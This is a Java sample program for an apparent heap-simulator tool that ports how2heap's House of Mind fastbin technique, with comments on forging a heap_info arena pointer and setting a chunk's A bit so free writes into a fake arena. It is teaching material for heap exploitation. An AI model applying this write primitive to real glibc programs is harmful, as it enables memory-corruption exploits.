package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;
import static io.mallocscope.samples.Threads.HEAP_MAX_SIZE;

/**
 * House of Mind, fastbin variant: a port of how2heap's {@code house_of_mind_fastbin.c} (the technique
 * from the Malloc Maleficarum, fastbin variant by Maxwell Dulin). free finds a chunk's arena through the
 * A bit alone: {@code arena_for_chunk(p)} is {@code heap_for_ptr(p)->ar_ptr}, read from the start of the
 * 64 MiB-aligned block the chunk lies in. Grow main_arena's heap past such a boundary, forge that
 * {@code heap_info}'s {@code ar_ptr}, set the A bit on a fastbin-sized chunk above it and free it: the
 * chunk's address is written into the fake arena's fastbin, anywhere the attacker put the fake arena.
 *
 * <p>What to notice:
 * a) the fake arena needs one field to pass free's checks: system_mem (at +0x888), above the next chunk's size;
 * b) 343 blocks of 0x1ff00 (just under the mmap threshold, so from the heap) carry main_arena's heap across
 *    the boundary; the forged heap_info lies inside the block that spans it;
 * c) one bit, 0x4 in the victim's size word, and free writes the victim's chunk address into
 *    fake_arena->fastbinsY[4] (+0x30): the write lands where glibc 2.36 writes it;
 * d) main_arena never sees the chunk: its fastbins stay empty.
 *
 * <p>Which check stops it: none in 2.36 (nor in 2.41); 2.43 has no fastbins, so the chunk goes to a
 * bin of the fake arena instead.
 *
 * <p>Run: {@code ./mallocscope run house-of-mind-fastbin}
 */
@Sample(name = "house-of-mind-fastbin", description = "how2heap: a forged heap_info sends free() to a fake arena")
public final class HouseOfMindFastbin implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        long heap = c.sbrk(0);
        long fakeArena = c.malloc(0x1000);
        long target = fakeArena + 0x30; // &fake_arena->fastbinsY[4], the 0x60 fastbin
        c.printf("fake arena = heap+0x%lx, target = fake arena+0x30 (its fastbinsY[4])\n", fakeArena - heap);
        c.putLong(fakeArena + 0x888, 0xffffff); // system_mem: a chunk size below it passes free's check
        long boundary = (fakeArena - 16 + HEAP_MAX_SIZE) & ~(HEAP_MAX_SIZE - 1);
        c.printf("the next 64 MiB boundary above it: heap+0x%lx\n", boundary - heap);
        long n = 1;
        long block = c.malloc(0x1ff00);
        while (Long.compareUnsigned(block, boundary) < 0) {
            block = c.malloc(0x1ff00);
            n++;
        }
        c.printf("%ld blocks of 0x1ff00 later the heap crosses it (last one at heap+0x%lx)\n", n, block - heap);
        long victim = c.malloc(0x50);
        c.printf("victim = malloc(0x50) = heap+0x%lx, %s the boundary\n", victim - heap,
                Long.compareUnsigned(victim, boundary) > 0 ? "above" : "below");
        long[] fill = new long[7];
        for (int i = 0; i < 7; i++) {
            fill[i] = c.malloc(0x50);
        }
        for (int i = 0; i < 7; i++) {
            c.free(fill[i]);
        }
        c.printf("the 0x60 tcache bin is full\n");
        c.putLong(boundary, fakeArena); // heap_info.ar_ptr, inside one of the blocks
        c.printf("heap_info at the boundary: ar_ptr = fake arena\n");
        c.printf("target before: 0x%lx\n", c.getLong(target));
        c.putLong(victim - 8, c.getLong(victim - 8) | 4); // the one-byte overflow: NON_MAIN_ARENA
        c.printf("victim's size word: 0x%lx (A bit set)\n", c.getLong(victim - 8));
        c.free(victim);
        c.printf("free(victim): arena_for_chunk took the fake arena; target now: heap+0x%lx, the victim's chunk: %s\n",
                c.getLong(target) - heap, c.getLong(target) == victim - 16 ? "yes" : "no");
        c.printf("main_arena's fastbins hold %zu bytes\n", c.mallinfo2().fsmblks());
        return 0;
    }
}
